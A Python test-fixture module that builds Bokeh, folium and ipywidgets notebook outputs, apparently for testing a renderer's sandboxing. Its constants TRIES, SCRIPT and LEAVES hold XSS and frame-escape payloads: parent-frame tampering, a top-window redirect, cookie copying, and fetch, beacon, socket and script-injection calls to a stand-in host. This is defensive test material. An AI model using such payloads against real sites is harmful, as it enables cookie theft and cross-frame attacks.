"""Outputs of interactive libraries as notebooks keep them, made by these libraries themselves."""

from __future__ import annotations

from typing import Any

import folium
import ipywidgets
import nbformat
from bokeh.embed.notebook import notebook_content
from bokeh.models import CustomJS
from bokeh.models.widgets import Slider
from bokeh.plotting import figure
from ipywidgets.embed import embed_data
from lodge_services.render.bokeh import EXEC
from lodge_services.render.widgets import STATE, VIEW

#: What a notebook may try that is nobody's business.
TRIES = "<img src=x onerror=\"parent.document.title='taken'\"><script>parent.name='taken'</script>"
#: The same as a script that does run, in a frame.
SCRIPT = """
const tries = [
  () => { parent.document.title = 'taken'; },
  () => { parent.lodgeTaken = 'taken'; },
  () => { top.location = 'https://elsewhere.example/top'; },
  () => { localStorage.setItem('a', document.cookie); },
  () => fetch('https://elsewhere.example/fetch'),
  () => fetch('/services/shares/api/shares'),
  () => navigator.sendBeacon('https://elsewhere.example/beacon', 'x'),
  () => new WebSocket('wss://elsewhere.example/socket'),
  () => new EventSource('https://elsewhere.example/events'),
  () => { new Image().src = 'https://elsewhere.example/image.png'; },
  () => { document.body.append(Object.assign(document.createElement('script'), {src: 'https://elsewhere.example/x.js'})); },
  () => { document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://elsewhere.example/frame'})); },
  () => { document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://elsewhere.example/x.css'})); },
  () => import('https://elsewhere.example/module.js'),
  () => new Worker('https://elsewhere.example/worker.js'),
  () => window.open('https://elsewhere.example/window'),
  () => { document.body.append(Object.assign(document.createElement('form'), {action: 'https://elsewhere.example/form', method: 'post', id: 'f'})); document.querySelector('#f').submit(); },
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch {} }
window.triedAll = true;
"""  # noqa: E501
#: The last that a script may try: its frame is gone then.
LEAVES = "location = 'https://elsewhere.example/left';"


def bokeh_outputs(model: Any) -> list[Any]:
    """Return what ``show(model)`` leaves in a cell."""
    script, div, _ = notebook_content(model)
    new = nbformat.v4.new_output
    about = {EXEC: {"id": model.id}}
    data = {"application/javascript": script, EXEC: ""}
    return [
        new("display_data", data={"text/html": div}),
        new("display_data", data=data, metadata=about),
    ]


def delays(title: str = "Delays by hour", **options: Any) -> Any:
    """Return a figure of Bokeh."""
    shown = figure(title=title, height=300, x_axis_label="hour", y_axis_label="minutes", **options)
    shown.line([1, 2, 3], [4, 7, 5], legend_label="mean")
    shown.scatter([1, 2, 3], [4, 7, 5], size=10)
    return shown


def running(script: str, title: str = "Delays by hour") -> Any:
    """Return a figure that runs a script as soon as it is laid out."""
    shown = delays(title)
    shown.js_on_change("inner_width", CustomJS(code=script))
    return shown


def slider(script: str) -> Any:
    """Return a slider of Bokeh that runs a script when it is moved."""
    made = Slider(start=0, end=5, value=1, title="n")
    made.js_on_change("value", CustomJS(code=script))
    return made


def munich(popup: str = "<b>Munich</b>", **options: Any) -> Any:
    """Return a map of folium."""
    made = folium.Map([48.1, 11.5], zoom_start=6, **options)
    folium.Marker([48.1, 11.5], popup=popup, tooltip="here").add_to(made)
    folium.CircleMarker([48.4, 11.9], radius=8).add_to(made)
    ring = [[10, 47], [12, 47], [12, 49], [10, 47]]
    area = {"type": "Polygon", "coordinates": [ring]}
    folium.GeoJson({"type": "Feature", "properties": {}, "geometry": area}).add_to(made)
    return made


def map_output(made: Any) -> Any:
    """Return what a map as the last value of a cell leaves in it."""
    data = {"text/html": made._repr_html_(), "text/plain": repr(made)}
    return nbformat.v4.new_output("execute_result", data=data, execution_count=1)


def controls() -> Any:
    """Return widgets of several kinds."""
    return ipywidgets.VBox(
        [
            ipywidgets.IntSlider(value=7, description="Count"),
            ipywidgets.Dropdown(options=["red", "blue"], value="blue", description="Colour"),
            ipywidgets.HTML("<b>Hello</b> <i>you</i>"),
            ipywidgets.Checkbox(value=True, description="On"),
            ipywidgets.FloatProgress(value=3, max=10, description="Done"),
            ipywidgets.FloatRangeSlider(value=[1.5, 2.5], description="Range"),
        ]
    )


def widget_notebook(widget: Any) -> Any:
    """Return a notebook with one cell that shows a widget, and with the state of it."""
    # What runs a notebook keeps what is as it is by default, too.
    kept = embed_data(views=[widget], drop_defaults=False)
    data = {VIEW: kept["view_specs"][0], "text/plain": repr(widget)}
    output = nbformat.v4.new_output("display_data", data=data)
    cell = nbformat.v4.new_code_cell("widget", outputs=[output])
    return nbformat.v4.new_notebook(
        cells=[cell], metadata={"widgets": {STATE: kept["manager_state"]}}
    )


def notebook(*outputs: Any) -> Any:
    """Return a notebook with a cell for each output, or list of outputs."""
    cells = [
        nbformat.v4.new_code_cell("x", outputs=one if isinstance(one, list) else [one])
        for one in outputs
    ]
    return nbformat.v4.new_notebook(cells=cells)
